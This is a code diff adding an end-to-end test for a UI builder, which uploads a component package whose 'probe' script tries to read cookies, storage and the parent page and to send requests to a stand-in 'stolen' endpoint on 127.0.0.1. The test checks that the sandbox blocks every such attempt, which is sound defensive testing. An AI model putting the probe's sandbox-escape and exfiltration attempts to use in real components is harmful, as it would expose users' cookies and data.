@@ -123,3 +123,83 @@ describe('from the canvas to a visitor', () => {
     expect(complaints).toEqual([])
   })
 })
+
+/** A component that tries every way out, and tells which of them were open. */
+const probe = `export function probe(root, props, emit) {
+  root.textContent = props.word
+  const open = []
+  const far = 'http://127.0.0.1:9/stolen'
+  const attempt = (name, work) => { try { if (work()) open.push(name) } catch {} }
+  attempt('cookie', () => document.cookie !== undefined)
+  attempt('storage', () => localStorage)
+  attempt('parent', () => parent.document)
+  attempt('rtc', () => globalThis.RTCPeerConnection)
+  attempt('popup', () => globalThis.open(far))
+  attempt('eval', () => (0, eval)('1'))
+  root.insertAdjacentHTML('beforeend', '<img src="' + far + '"><iframe src="' + far + '"></iframe><link rel="prefetch" href="' + far + '">')
+  const form = Object.assign(document.createElement('form'), { action: far })
+  document.body.append(form)
+  attempt('form', () => { form.submit(); return false })
+  new Promise((done) => { try { new WebSocket('ws://127.0.0.1:9/').onopen = () => { open.push('socket') } } catch {} ; done() })
+    .then(() => fetch(far)).then(() => open.push('fetch'), () => {})
+    .then(() => emit('change', open.length ? open.join() : 'all closed'))
+}`
+describe('a component of a package', () => {
+  test('runs in a frame that reaches nothing but its port', { timeout: 120_000 }, async () => {
+    const page = await visit({ language })
+    const wanted: string[] = []
+    page.on('request', (request) => wanted.push(request.url()))
+    await page.goto('/sign')
+    await register(page, language, `package-${Math.random().toString(36).slice(2)}@example.test`)
+    await page.waitForURL(/\/space\/\d+\/develop/)
+    const spaceId = /\/space\/(\d+)\//.exec(page.url())![1]!
+    const send = <T>(path: string, body: object) => call<T>(page, path, body)
+    const { project_id } = await send<{ project_id: string }>('/api/intelligence_api/draft_project/create', {
+      space_id: spaceId,
+      name: 'Probe',
+    })
+    type Made = { channel_map: Record<string, { sandbox_id: string }> }
+    const made = await send<Made>('/api/ui_builder/v1/create', { project_id })
+    await send('/api/ui_builder/v1/component/package/upload', {
+      ...{ space_id: spaceId, name: 'probes', version_name: '1.0.0', title: 'Probes' },
+      components: [
+        {
+          name: 'probe',
+          title: 'Probe',
+          props: [{ name: 'word', kind: 'text', initial: 'ready' }],
+          events: ['change'],
+        },
+      ],
+      files: { 'index.js': probe },
+    })
+    await page.goto(`/space/${spaceId}/project-ide/${project_id}?mode=interface`)
+    await page.getByRole('button', { name: i('packages.open'), exact: true }).click()
+    const dialog = page.getByRole('dialog')
+    const importing = page.waitForResponse(/component\/import$/)
+    await dialog.getByRole('button', { name: i('packages.import', { name: 'probes', version: '1.0.0' }) }).click()
+    expect((await importing).status()).toBe(200)
+    await dialog.getByText(i('packages.imported', { version: '1.0.0' })).waitFor()
+    await expectAccessible(page, 'interface-packages', ['Probes'])
+    const node = (type: string, order: string, name: string, props: object) => ({
+      path: ['nodes', name],
+      value: { page: 'home', parent: '', order, type, name, props, visible: '', phone: {}, events: {} },
+    })
+    await send('/api/ui_builder/v1/starry/sandbox/update', {
+      sandbox_id: made.channel_map['1']!.sandbox_id,
+      crdt_history: JSON.stringify([
+        node('probes/probe', 'b', 'probe', { word: 'ready' }),
+        node('text', 'c', 'said', { text: 'Found: {{probe.value}}', tone: 'normal' }),
+      ]),
+      action: JSON.stringify({ batch: 'one', since: 0 }),
+    })
+    const { url } = await send<{ url: string }>('/api/ui_builder/v1/preview/link', { project_id })
+    const { pathname, search } = new URL(url)
+    await page.goto(`${pathname}${search}`)
+    await page.getByText('Found: all closed', { exact: true }).waitFor()
+    await expectVisitorPageAccessible(page, 'interface-preview')
+    expect(wanted.filter((address) => address.includes('stolen'))).toEqual([])
+    // As a page of its own it is not there.
+    const frame = await page.locator('iframe').first().getAttribute('src')
+    expect((await page.goto(frame!))!.headers()['content-security-policy'] ?? '').not.toContain('allow-scripts')
+  })
+})
